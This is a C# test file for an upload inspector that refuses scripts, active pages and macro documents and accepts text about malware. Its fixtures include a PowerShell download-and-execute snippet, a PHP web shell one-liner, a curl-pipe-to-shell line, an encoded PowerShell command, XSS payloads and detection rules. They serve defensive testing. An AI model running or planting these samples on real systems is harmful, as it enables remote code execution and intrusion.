using System.Text;

namespace Infohub.Modules.Tests.Library.Inspection;

public sealed class ScriptTests
{
    private const string PowerShell = "# helper\n$client = New-Object Net.WebClient\n$data = $client.DownloadString('http://example.test/a')\nforeach ($line in $data) {\n    Write-Output $line\n}\nInvoke-Expression $data\n";

    [Theory]
    [InlineData("#!/bin/sh\necho hello\n")]
    [InlineData("#! /usr/bin/env python3\nprint(1)\n")]
    [InlineData("@echo off\r\nstart calc\r\n")]
    [InlineData("  <?php system($_GET['c']); ?>")]
    [InlineData("<%@ page import=\"java.io.*\" %>")]
    [InlineData("#@~^DgAAAA==abcdef")]
    [InlineData(PowerShell)]
    [InlineData("Dim shell\nSet shell = CreateObject(\"WScript.Shell\")\nshell.Run \"calc\"\n")]
    [InlineData("var shell = new ActiveXObject('WScript.Shell');\nvar x = 1;\nshell.Run('calc');\n")]
    public void A_script_is_refused_under_any_name(string script)
    {
        Made.Refused("script", Made.Bytes(script), "notes.txt");
        Made.Refused("script", Encoding.UTF8.GetPreamble().Concat(Made.Bytes(script)).ToArray(), "notes.txt");
    }

    [Fact]
    public void A_script_in_utf_16_is_refused_with_and_without_its_byte_order_mark()
    {
        Made.Refused("script", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(PowerShell)], "notes.txt");
        Made.Refused("script", Encoding.Unicode.GetBytes(PowerShell), "notes.txt");
        Made.Refused("script", Encoding.BigEndianUnicode.GetBytes(PowerShell), "notes.txt");
        Made.Refused("name-script", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(PowerShell)], "run.ps1");
    }

    [Theory]
    [InlineData("<html><body><script>alert(1)</script></body></html>", "page.txt")]
    [InlineData("<!DOCTYPE html><title>x</title><img src=x onerror=\"run()\">", "page.html")]
    [InlineData("hello <SCRIPT src=x></SCRIPT>", "page.htm")]
    [InlineData("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"run()\"/>", "logo.svg")]
    [InlineData("<hta:application id=x /><p>", "notes.txt")]
    [InlineData("<job id=\"x\"><script language=\"VBScript\">x</script></job>", "notes.txt")]
    public void A_page_with_a_script_is_refused(string page, string name) => Made.Refused("active-page", Made.Bytes(page), name);

    [Fact]
    public void A_word_document_in_flat_xml_with_macros_is_refused() =>
        Made.Refused("macros", Made.Bytes("<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument w:macrosPresent=\"yes\"/>"), "report.xml");

    [Theory]
    [InlineData("<html><body><p>A phishing page said: &lt;script&gt;</p></body></html>", "page.html")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>", "logo.svg")]
    [InlineData("The mail had evil.exe and invoice.js attached. It ran powershell -nop -w hidden -enc SQBFAFgA and <script>alert(1)</script>.", "notes.txt")]
    [InlineData("We saw:\n\n#!/bin/sh\ncurl http://example.test | sh\n\nin the crontab.", "notes.txt")]
    [InlineData("rule dropper {\n  strings:\n    $a = \"IEX\"\n    $b = \"This program cannot be run in DOS mode\"\n    $c = { 4D 5A 90 00 }\n  condition:\n    $c at 0 and $a\n}\n", "dropper.yar")]
    [InlineData("rule pdf_js {\n strings: $h = \"%PDF-\" $j = \"/JavaScript\" $o = \"obj\"\n condition: all of them }\n", "pdf.yar")]
    [InlineData("title: Encoded PowerShell\nlogsource:\n  product: windows\ndetection:\n  selection:\n    CommandLine|contains: 'Invoke-Expression'\n  condition: selection\n", "rule.yml")]
    [InlineData("00000000  4d 5a 90 00 03 00 00 00  04 00 00 00 ff ff 00 00  |MZ..............|\n", "dump.txt")]
    [InlineData("44d88612fea8a8f36de82e1278abb02f\n275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n", "hashes.txt")]
    [InlineData("2026-01-01T00:00:00Z host sshd[1]: Failed password\n2026-01-01T00:00:01Z host cmd: $x = New-Object Net.WebClient\n", "auth.log")]
    [InlineData("{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":[]}", "bundle.json")]
    [InlineData("id,value\n1,=cmd\n", "table.csv")]
    [InlineData("<?xml version=\"1.0\"?><Event><Data>wscript.exe a.js</Data></Event>", "event.xml")]
    [InlineData("The begin 644 evil.exe line shows uuencode", "notes.txt")]
    [InlineData("MSCF, Rar!, PK and CD001 are magic numbers", "notes.txt")]
    [InlineData("MZ is how a program begins, and PE follows", "notes.txt")]
    public void Text_about_malware_is_welcome(string text, string name) => Made.Welcome(Made.Bytes(text), name);
}
